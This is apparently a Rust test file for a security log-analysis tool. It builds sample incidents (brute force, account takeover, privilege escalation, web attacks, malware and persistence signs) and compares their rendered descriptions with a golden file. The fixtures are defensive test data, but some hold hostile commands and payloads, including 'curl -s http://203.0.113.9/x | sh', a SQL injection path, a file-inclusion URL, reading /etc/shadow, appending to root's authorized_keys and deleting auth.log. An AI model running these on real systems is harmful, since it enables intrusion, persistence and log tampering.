//! Typical incidents against `golden.txt`.

use std::fmt::Write;
use std::path::Path;

use jejak_protocol::IncidentKind as K;
use jejak_protocol::{Certainty, EntityKind, FactKey as F, FactValue as V, Incident};
use jejak_words::{Lang, Reader, next_steps, sentence, title};

use crate::build::{With, at, incident, wib};

const S: i64 = 1_000_000;

/// One of each kind as the detectors give it, and its common variants.
pub(crate) fn typical() -> Vec<(&'static str, Incident)> {
    let mut all = sign_ins();
    all.extend(privileges());
    all.extend(web());
    all.extend(system());
    all.extend(signs());
    all.extend(on_windows());
    all
}

/// What is told of it is the same; what to do is not.
fn on_windows() -> Vec<(&'static str, Incident)> {
    const AUDIT: &str = "Microsoft-Windows-Security-Auditing";
    let service = EntityKind::Service;
    vec![
        (
            "windows: brute force",
            incident(K::BruteForce, 24, 70)
                .entity(service, AUDIT)
                .say(F::Source, "203.0.113.9")
                .say(F::Service, AUDIT)
                .n(F::Failures, 24),
        ),
        (
            "windows: takeover",
            incident(K::AccountTakeover, 25, 90)
                .entity(service, AUDIT)
                .say(F::Source, "203.0.113.9")
                .say(F::User, "administrator")
                .say(F::Service, AUDIT)
                .n(F::FailuresBefore, 24),
        ),
        (
            "windows: takeover of a user whose name fits into no command",
            incident(K::AccountTakeover, 25, 90)
                .entity(service, AUDIT)
                .say(F::User, "rina & co"),
        ),
        (
            "windows: group",
            incident(K::PrivilegeEscalation, 1, 0)
                .entity(service, AUDIT)
                .say(F::User, "rina")
                .say(F::Act, "group_added")
                .say(F::Group, "Administrators"),
        ),
        (
            "windows: group with a space in its name",
            incident(K::PrivilegeEscalation, 1, 0)
                .entity(service, AUDIT)
                .say(F::User, "rina")
                .say(F::Act, "group_added")
                .say(F::Group, "Remote Desktop Users"),
        ),
        (
            "windows: service",
            incident(K::Persistence, 1, 0)
                .entity(service, "Service Control Manager")
                .say(F::User, "LocalSystem")
                .say(F::Host, "KASIR-1")
                .say(F::Command, "WinUpd")
                .say(F::Sign, "service_unit"),
        ),
        (
            "windows: log cleared",
            incident(K::LogTampering, 1, 0)
                .entity(service, "Microsoft-Windows-Eventlog")
                .say(F::User, "rina")
                .say(F::Sign, "log_cleared"),
        ),
    ]
}

fn sign_ins() -> Vec<(&'static str, Incident)> {
    let address = EntityKind::SourceAddress;
    vec![
        (
            "brute force that the log itself calls so",
            incident(K::BruteForce, 1, 0)
                .say(F::Source, "203.0.113.9")
                .say(F::User, "budi")
                .say(F::Service, "kpanel")
                .say(F::Sign, "told_guessing")
                .n(F::Users, 1)
                .n(F::Failures, 1),
        ),
        (
            "brute force that fail2ban saw",
            incident(K::BruteForce, 6, 10)
                .entity(EntityKind::Service, "fail2ban.filter")
                .say(F::Source, "203.0.113.9")
                .say(F::Service, "fail2ban.filter")
                .n(F::Failures, 6),
        ),
        (
            "brute force, one address, many users",
            incident(K::BruteForce, 532, 540)
                .entity(address, "203.0.113.5")
                .say(F::Source, "203.0.113.5")
                .n(F::Failures, 532)
                .n(F::Users, 12)
                .say(F::User, "admin")
                .say(F::Service, "sshd")
                .fact(F::Interval, V::DurationUs(S))
                .fact(F::Actual, V::Number(532.0))
                .fact(F::Typical, V::Number(5.0))
                .say(F::MeasureUnit, "per_600s"),
        ),
        (
            "brute force, one user, fast",
            incident(K::BruteForce, 7, 20)
                .say(F::Source, "2001:db8::7")
                .n(F::Failures, 7)
                .n(F::Users, 1)
                .say(F::User, "root")
                .fact(F::Interval, V::DurationUs(S / 4)),
        ),
        (
            "brute force without an address, by service",
            incident(K::BruteForce, 30, 300)
                .entity(EntityKind::Service, "Auth")
                .n(F::Failures, 30)
                .fact(F::Interval, V::DurationUs(10 * S)),
        ),
        (
            "brute force without an address, by template",
            incident(K::BruteForce, 30, 300)
                .entity(EntityKind::Template, "Failed login attempt")
                .n(F::Failures, 30),
        ),
        (
            "brute force, several addresses over two days",
            incident(K::BruteForce, 1_204, 100_000)
                .n(F::Sources, 11)
                .n(F::Failures, 1_204),
        ),
        (
            "slow brute force",
            incident(K::SlowBruteForce, 9, 6 * 3600)
                .say(F::Source, "52.80.34.196")
                .n(F::Failures, 9)
                .n(F::Users, 3)
                .say(F::Service, "sshd")
                .fact(F::Interval, V::DurationUs(2_400 * S)),
        ),
        (
            "spraying",
            incident(K::PasswordSpraying, 52, 900)
                .say(F::Source, "198.51.100.9")
                .n(F::Users, 40)
                .n(F::Failures, 52)
                .say(F::Service, "sshd"),
        ),
        (
            "spraying from several",
            incident(K::PasswordSpraying, 52, 900)
                .n(F::Sources, 8)
                .n(F::Users, 40)
                .n(F::Failures, 52),
        ),
        (
            "takeover",
            incident(K::AccountTakeover, 41, 240)
                .say(F::Source, "24.151.103.17")
                .say(F::User, "elastic")
                .say(F::Service, "sshd")
                .n(F::FailuresBefore, 40)
                .fact(F::SucceededAt, V::Time(at(240))),
        ),
        (
            "takeover after tries from many",
            incident(K::AccountTakeover, 26, 240)
                .say(F::Source, "24.151.103.17")
                .say(F::User, "backup")
                .n(F::FailuresBefore, 25)
                .n(F::Sources, 9),
        ),
        ("takeover of root by one who is known, sure", {
            let mut it = incident(K::AccountTakeover, 2, 240)
                .say(F::Source, "192.168.1.20")
                .say(F::User, "root")
                .n(F::FailuresBefore, 1);
            it.certainty = Certainty::Sure;
            it
        }),
    ]
}

fn privileges() -> Vec<(&'static str, Incident)> {
    let act = |act: &str, count| {
        incident(K::PrivilegeEscalation, count, 0)
            .entity(EntityKind::User, "alice")
            .say(F::User, "alice")
            .say(F::Act, act)
    };
    vec![
        (
            "sudo refused",
            act("sudo_refused", 3).say(F::Command, "/bin/cat /etc/shadow"),
        ),
        (
            "pkexec refused",
            act("sudo_refused", 1)
                .say(F::Command, "/usr/bin/id")
                .say(F::Service, "pkexec"),
        ),
        (
            "sudo failed",
            act("sudo_failed", 3).say(F::Command, "/usr/bin/apt update"),
        ),
        ("su failed", act("su_failed", 1).say(F::Host, "web1")),
        (
            "first sudo",
            act("first_sudo", 1).say(F::Command, "/bin/bash"),
        ),
        ("group added", act("group_added", 1).say(F::Group, "docker")),
        ("user id 0", act("uid_zero", 1)),
        ("an act of a later version", act("capability_added", 1)),
    ]
}

fn web() -> Vec<(&'static str, Incident)> {
    let attack = |n, classes: &str| {
        incident(K::WebAttack, n, 60)
            .say(F::Source, "192.0.2.44")
            .n(F::Requests, n)
            .say(F::AttackClass, classes)
    };
    vec![
        (
            "web scan",
            incident(K::WebScan, 1_200, 95)
                .say(F::Source, "192.0.2.44")
                .n(F::Requests, 1_200)
                .n(F::ClientErrors, 1_100)
                .n(F::Paths, 400)
                .say(F::UserAgent, "Mozilla/5.00 (Nikto/2.1.6)"),
        ),
        (
            "web scan that found nothing",
            incident(K::WebScan, 466, 95)
                .say(F::Source, "192.0.2.44")
                .n(F::Requests, 466)
                .n(F::ClientErrors, 466)
                .n(F::Paths, 429),
        ),
        (
            "web attack, answered",
            attack(24, "sqli,traversal")
                .n(F::Answered, 3)
                .say(F::Path, "/shop.php?id=1' OR '1'='1"),
        ),
        (
            "web attack, three classes, none answered",
            attack(24, "sqli, xss, command_injection").n(F::Answered, 0),
        ),
        (
            "many who knock",
            incident(K::WebAttack, 50, 60)
                .n(F::Sources, 40)
                .n(F::Requests, 50)
                .say(F::AttackClass, "probe")
                .n(F::Answered, 0)
                .say(F::Path, "/.env"),
        ),
        (
            "one request",
            attack(1, "inclusion")
                .n(F::Answered, 1)
                .say(F::Path, "/?page=http://198.51.100.1/x.txt"),
        ),
    ]
}

fn system() -> Vec<(&'static str, Incident)> {
    vec![
        (
            "exceptions",
            incident(K::SystemError, 30, 300)
                .say(F::Service, "payment")
                .say(F::Error, "java.lang.NullPointerException")
                .fact(F::Actual, V::Number(30.0))
                .fact(F::Typical, V::Number(0.5))
                .say(F::MeasureUnit, "per_600s"),
        ),
        (
            "restart loop",
            incident(K::SystemError, 6, 300)
                .say(F::Service, "nginx.service")
                .n(F::Restarts, 6),
        ),
        ("one error, nobody named", incident(K::SystemError, 1, 0)),
        (
            "new template",
            incident(K::NewTemplate, 3, 30)
                .say(F::Template, "Out of memory: Killed process <*> (<*>)"),
        ),
        (
            "more records",
            incident(K::VolumeChange, 9_000, 600)
                .fact(F::Actual, V::Number(9_000.0))
                .fact(F::Typical, V::Number(40.5))
                .fact(F::Interval, V::DurationUs(600 * S))
                .say(F::MeasureUnit, "per_bucket"),
        ),
        (
            "records stop",
            incident(K::VolumeChange, 0, 600)
                .entity(EntityKind::Service, "cron")
                .fact(F::Actual, V::Number(0.0))
                .fact(F::Typical, V::Number(12.0)),
        ),
        (
            "a load far above usual, with errors",
            incident(K::MetricChange, 40, 600)
                .say(F::Metric, "node_load1 · instance=\"web:9100\"")
                .say(F::Deviation, "level_up")
                .fact(F::Interval, V::DurationUs(600 * S))
                .fact(F::Meanwhile, V::Count(38))
                .fact(F::Actual, V::Number(6.5))
                .fact(F::Typical, V::Number(0.4))
                .say(F::MeasureUnit, "metric_plain"),
        ),
        (
            "memory nearly used up",
            incident(K::MetricChange, 40, 600)
                .say(F::Metric, "@memory")
                .say(F::Deviation, "near_limit")
                .fact(F::Interval, V::DurationUs(600 * S))
                .fact(F::Actual, V::Number(0.97))
                .say(F::MeasureUnit, "metric_ratio"),
        ),
        (
            "only a model",
            incident(K::UnusualBehaviour, 40, 1_700)
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .fact(F::Actual, V::Number(3.0))
                .fact(F::Typical, V::Number(0.0))
                .say(F::MeasureUnit, "unusual_windows"),
        ),
        (
            "a session with a new event",
            incident(K::UnusualBehaviour, 9, 12)
                .say(F::Session, "j10298")
                .fact(F::Sessions, V::Count(1))
                .say(F::Deviation, "new_event")
                .say(F::Template, "job_id=<*> dropped its lease")
                .say(
                    F::Expected,
                    "job_id=<*> storing part <*>\njob_id=<*> finished and closed",
                ),
        ),
        (
            "sessions of one source in another order",
            incident(K::UnusualBehaviour, 40, 1_700)
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .say(F::Session, "sshd[4711]")
                .fact(F::Sessions, V::Count(3))
                .say(F::Deviation, "unlikely_event")
                .say(F::Template, "Connection closed by <*>")
                .say(F::Expected, "Accepted password for <*> from <*>\n"),
        ),
        (
            "sessions that end early",
            incident(K::UnusualBehaviour, 90, 86_400)
                .say(F::Session, "blk_-1608999687919862906")
                .fact(F::Sessions, V::Count(14))
                .say(F::Deviation, "ends_early")
                .say(F::Expected, "Received block <*> of size <*> from <*>"),
        ),
        (
            "a session that is too long",
            incident(K::UnusualBehaviour, 512, 3_600)
                .entity(EntityKind::User, "budi")
                .say(F::User, "budi")
                .say(F::Session, "budi")
                .fact(F::Sessions, V::Count(1))
                .say(F::Deviation, "too_long")
                .fact(F::Actual, V::Number(512.0))
                .say(F::MeasureUnit, "records"),
        ),
        (
            "an event that comes too often",
            incident(K::UnusualBehaviour, 120, 900)
                .say(F::Session, "j10298")
                .fact(F::Sessions, V::Count(1))
                .say(F::Deviation, "too_many")
                .say(F::Template, "job_id=<*> retrying part <*>")
                .fact(F::Actual, V::Number(96.0))
                .fact(F::Typical, V::Number(4.0))
                .say(F::MeasureUnit, "per_session"),
        ),
        (
            "sessions that lack an event",
            incident(K::UnusualBehaviour, 20, 900)
                .say(F::Session, "j10298")
                .fact(F::Sessions, V::Count(3))
                .say(F::Deviation, "too_few")
                .say(F::Template, "job_id=<*> finished and closed")
                .fact(F::Actual, V::Number(0.0))
                .fact(F::Typical, V::Number(1.0))
                .say(F::MeasureUnit, "per_session"),
        ),
    ]
}

fn signs() -> Vec<(&'static str, Incident)> {
    let host = |it: Incident| it.say(F::Host, "toko");
    vec![
        (
            "downloaded and run by sudo",
            host(incident(K::Malware, 1, 0))
                .entity(EntityKind::User, "budi")
                .say(F::User, "budi")
                .say(F::Sign, "download_run")
                .say(F::Command, "/bin/sh -c curl -s http://203.0.113.9/x | sh"),
        ),
        (
            "what a scanner of mail let pass",
            host(incident(K::Malware, 1, 0))
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .say(F::Service, "amavis")
                .say(F::Sign, "malware_found")
                .say(F::Error, "Win.Test.EICAR_HDB-1"),
        ),
        (
            "a web shell",
            incident(K::Malware, 7, 90)
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .say(F::Sign, "web_shell")
                .say(F::Path, "/uploads/x.php"),
        ),
        (
            "a job and keys",
            host(incident(K::Persistence, 2, 60))
                .say(F::User, "root")
                .say(F::Sign, "authorized_keys,cron_entry")
                .say(F::Command, "/usr/bin/tee -a /root/.ssh/authorized_keys"),
        ),
        (
            "logs deleted",
            host(incident(K::LogTampering, 1, 0))
                .say(F::User, "budi")
                .say(F::Sign, "log_cleared")
                .say(F::Command, "/usr/bin/rm /var/log/auth.log"),
        ),
        (
            "permissions",
            host(incident(K::FileActivity, 3, 600))
                .say(F::User, "budi")
                .say(F::Sign, "open_permissions,immutable")
                .say(F::Command, "/usr/bin/chmod -R 777 /srv"),
        ),
        (
            "port scan",
            host(incident(K::SuspiciousNetwork, 120, 60))
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .say(F::Sign, "port_scan")
                .n(F::Ports, 97)
                .n(F::Destinations, 1)
                .fact(F::Actual, V::Number(97.0))
                .fact(F::Typical, V::Number(0.0))
                .say(F::MeasureUnit, "distinct_ports"),
        ),
        (
            "search for machines",
            incident(K::SuspiciousNetwork, 40, 60)
                .say(F::Source, "203.0.113.9")
                .say(F::Sign, "host_sweep")
                .n(F::Destinations, 40),
        ),
        (
            "turned away",
            host(incident(K::SuspiciousNetwork, 40, 300))
                .entity(EntityKind::SourceAddress, "203.0.113.9")
                .say(F::Source, "203.0.113.9")
                .say(F::Service, "postfix/smtpd")
                .say(F::Sign, "refusals"),
        ),
        (
            "flood of many",
            host(incident(K::SuspiciousNetwork, 1_200, 300))
                .say(F::Sign, "firewall_flood")
                .n(F::Sources, 311),
        ),
        (
            "flood of connections",
            host(incident(K::SuspiciousNetwork, 6, 300)).say(F::Sign, "syn_flood"),
        ),
        (
            "rare address",
            host(incident(K::SuspiciousNetwork, 1, 0))
                .entity(EntityKind::Destination, "203.0.113.66")
                .say(F::Destination, "203.0.113.66")
                .say(F::Sign, "rare_outbound"),
        ),
        (
            "much sent out",
            incident(K::SuspiciousNetwork, 4, 900)
                .say(F::Source, "203.0.113.9")
                .say(F::Sign, "outbound_volume")
                .n(F::Bytes, 3 << 30)
                .say(F::Path, "/backup/db.sql.gz"),
        ),
        (
            "out of memory",
            host(incident(K::ResourceExhaustion, 3, 600))
                .entity(EntityKind::Service, "kernel")
                .say(F::Service, "kernel")
                .say(F::Sign, "out_of_memory")
                .say(F::Error, "Out of memory"),
        ),
        (
            "crash",
            host(incident(K::SystemError, 1, 0))
                .say(F::Service, "kernel")
                .say(F::Sign, "crash")
                .say(F::Error, "segfault"),
        ),
        (
            "a gap",
            incident(K::MissingRecords, 1, 7_200)
                .say(F::Sign, "gap")
                .fact(F::Actual, V::Number(7_200.0))
                .fact(F::Typical, V::Number(40.0))
                .say(F::MeasureUnit, "seconds"),
        ),
    ]
}

#[test]
fn typical_incidents_read_as_agreed() {
    let zone = wib();
    let mut text = String::new();
    for (name, it) in typical() {
        let _ = writeln!(text, "# {name}");
        for lang in Lang::ALL {
            let reader = Reader::new(lang, &zone);
            let _ = writeln!(text, "{lang}: {}", title(&it, lang));
            let _ = writeln!(text, "    {}", sentence(&it, reader));
            for step in next_steps(&it, lang) {
                let _ = writeln!(text, "    - {step}");
            }
        }
        text.push('\n');
    }
    check_golden("golden.txt", &text);
}

/// Compares with a file beside this one, or writes it when `JEJAK_BLESS` is set.
pub(crate) fn check_golden(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/words")
        .join(name);
    if std::env::var_os("JEJAK_BLESS").is_some() {
        std::fs::write(&path, text).expect("the golden file can be written");
    }
    // A checkout on Windows may have turned the line ends.
    let golden = std::fs::read_to_string(&path)
        .expect("the golden file can be read")
        .replace("\r\n", "\n");
    for (got, expected) in text.lines().zip(golden.lines()) {
        assert_eq!(got, expected, "{name}: bless if the change is wanted");
    }
    assert_eq!(text.len(), golden.len(), "{name}: a text is missing or new");
}
